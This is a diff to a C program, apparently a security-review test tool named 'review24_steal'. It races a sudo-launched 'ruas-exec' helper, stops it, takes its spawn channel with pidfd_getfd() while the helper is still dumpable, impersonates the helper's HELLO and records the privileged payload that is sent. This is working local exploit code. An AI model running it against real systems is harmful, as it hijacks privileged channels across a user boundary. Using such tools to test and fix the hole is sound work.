@@ -4,19 +4,22 @@
  *
  *   review24_steal SECONDS OUT
  *
- * Waits for `sudo ... ruas-exec --channel-fd 0`, then for its child to
- * become ruas-exec (its comm in /proc/PID/stat, readable by anyone), stops
- * it at once (the target may signal it: sudo has dropped to the target),
- * takes its descriptor 0, the spawn channel, with pidfd_getfd() (allowed
- * while the process is dumpable: between the exec of a helper that the
- * target can read and the helper's PR_SET_DUMPABLE), peeks at what the
- * library sent (the payload), writes it to OUT and continues it. Exits 0
- * when it took the channel, 1 when the time ran out.
+ * Says "watching" in OUT, then waits for `sudo ... ruas-exec --channel-fd
+ * 0`, then for its child to become ruas-exec (its comm in /proc/PID/stat,
+ * readable by anyone), stops it at once (the target may signal it: sudo
+ * has dropped to the target), takes its descriptor 0, the spawn channel,
+ * with pidfd_getfd() (allowed while the process is dumpable: between the
+ * exec of a helper that the target can read and the helper's
+ * PR_SET_DUMPABLE), says the helper's HELLO itself, waits up to 5 s for
+ * what the library sends then (the payload), writes it to OUT and
+ * continues the helper. Exits 0 when it took the channel, 1 when the time
+ * ran out. SIGTERM ends it, but never in the middle of a theft.
  */
 #define _GNU_SOURCE
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
+#include <poll.h>
 #include <signal.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -73,6 +76,12 @@ int main(int argc, char **argv)
 		return 2;
 	long long end = now_ms() + atoi(argv[1]) * 1000LL;
 	static char seen[1 << 22];
+	sigset_t term;
+	sigemptyset(&term);
+	sigaddset(&term, SIGTERM);
+	FILE *w = fopen(argv[2], "w");
+	if (!w || fputs("watching\n", w) < 0 || fclose(w) != 0)
+		return 2;
 	while (now_ms() < end) {
 		DIR *d = opendir("/proc");
 		struct dirent *e;
@@ -91,7 +100,8 @@ int main(int argc, char **argv)
 			usleep(100);
 			continue;
 		}
-		/* Its child is one of the next pids. */
+		/* Its child is one of the next pids; no SIGTERM ends this half-done. */
+		sigprocmask(SIG_BLOCK, &term, NULL);
 		int done[4] = {0};
 		for (long long until = now_ms() + 300; now_ms() < until;) {
 			for (int k = 1; k < 4; k++) {
@@ -109,6 +119,11 @@ int main(int argc, char **argv)
 				if (pfd >= 0)
 					close(pfd);
 				if (fd >= 0) {
+					/* The helper's HELLO, as the library would take it from the helper. */
+					static const char hello[] = "\0\0\0\5\14RUAS\12";
+					(void)send(fd, hello, sizeof hello - 1, MSG_NOSIGNAL);
+					struct pollfd pf = {fd, POLLIN, 0};
+					(void)poll(&pf, 1, 5000);
 					char buf[65536];
 					ssize_t n = recv(fd, buf, sizeof buf, MSG_PEEK | MSG_DONTWAIT);
 					FILE *f = fopen(argv[2], "w");
@@ -124,6 +139,7 @@ int main(int argc, char **argv)
 				kill(pid, SIGCONT);
 			}
 		}
+		sigprocmask(SIG_UNBLOCK, &term, NULL);
 	}
 	return 1;
 }
